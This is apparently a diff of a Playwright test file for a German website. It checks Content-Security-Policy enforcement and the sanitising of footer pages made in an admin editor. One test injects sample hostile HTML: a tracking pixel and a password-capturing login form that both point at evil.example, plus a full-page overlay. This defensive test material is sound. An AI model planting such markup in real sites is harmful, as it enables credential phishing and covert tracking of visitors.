@@ -1,9 +1,10 @@
 import { expect, test, watchPolicyViolations, type Page } from './support/fixtures';
 
-const policyOf = (page: Page) =>
-  page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+const policyOf = (page: Page) => page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
 
-test('every pre-rendered page and the fallback page carry the policy, and the app starts under it', async ({ page }) => {
+test('every pre-rendered page and the fallback page carry the policy, and the app starts under it', async ({
+  page,
+}) => {
   for (const [path, heading] of [
     ['/', /Gemeinsam Prototypen entwickeln/],
     ['/produkte', /Produkte/],
@@ -24,7 +25,9 @@ test('every pre-rendered page and the fallback page carry the policy, and the ap
   // The shared fixture fails this test on any violation after it ends.
 });
 
-test('an inline script that is not in the policy is blocked and fails the test, naming the directive', async ({ browser }) => {
+test('an inline script that is not in the policy is blocked and fails the test, naming the directive', async ({
+  browser,
+}) => {
   const context = await browser.newContext();
   const expectNoViolations = await watchPolicyViolations(context);
   const page = await context.newPage();
@@ -38,18 +41,22 @@ test('an inline script that is not in the policy is blocked and fails the test, 
     return document.body.dataset.injected === 'ja';
   });
   expect(ran).toBe(false);
-  await expect.poll(() => {
-    try {
-      expectNoViolations();
-      return '';
-    } catch (error) {
-      return String(error);
-    }
-  }).toMatch(/script-src-elem blockierte inline .*auf http:\/\/127\.0\.0\.1:\d+\//);
+  await expect
+    .poll(() => {
+      try {
+        expectNoViolations();
+        return '';
+      } catch (error) {
+        return String(error);
+      }
+    })
+    .toMatch(/script-src-elem blockierte inline .*auf http:\/\/127\.0\.0\.1:\d+\//);
   await context.close();
 });
 
-test('a footer page shows neither images from other sites nor forms, and asks no other site for anything', async ({ page }) => {
+test('a footer page shows neither images from other sites nor forms, and asks no other site for anything', async ({
+  page,
+}) => {
   const foreign: string[] = [];
   page.on('request', (request) => {
     if (request.url().includes('evil.example')) foreign.push(request.url());
@@ -59,12 +66,14 @@ test('a footer page shows neither images from other sites nor forms, and asks no
   await expect(page).toHaveURL(/\/admin$/);
   await page.getByRole('tab', { name: 'Footer-Seiten' }).click();
   await page.getByRole('button', { name: 'Neue Seite' }).click();
-  await page.getByRole('textbox', { name: 'Inhalt (HTML)' }).fill(
-    '<h2>Anfahrt</h2><p>Sie finden uns am Markt.</p><img src="/images/hero/home.svg" alt="Unser Haus">' +
-      '<img src="https://evil.example/spy.png" alt="Zählpixel"><style>h2{display:none}</style>' +
-      '<form action="https://evil.example/login"><p>Bitte melden Sie sich an</p><input name="passwort" aria-label="Passwort">' +
-      '<button>Senden</button></form><p style="position:fixed;inset:0">Überdeckt</p>',
-  );
+  await page
+    .getByRole('textbox', { name: 'Inhalt (HTML)' })
+    .fill(
+      '<h2>Anfahrt</h2><p>Sie finden uns am Markt.</p><img src="/images/hero/home.svg" alt="Unser Haus">' +
+        '<img src="https://evil.example/spy.png" alt="Zählpixel"><style>h2{display:none}</style>' +
+        '<form action="https://evil.example/login"><p>Bitte melden Sie sich an</p><input name="passwort" aria-label="Passwort">' +
+        '<button>Senden</button></form><p style="position:fixed;inset:0">Überdeckt</p>',
+    );
   const preview = page.getByRole('region', { name: 'Vorschau' });
   await expect(preview.getByRole('heading', { level: 2, name: 'Anfahrt' })).toBeVisible();
   await expect(preview.getByRole('img', { name: 'Unser Haus' })).toBeVisible();
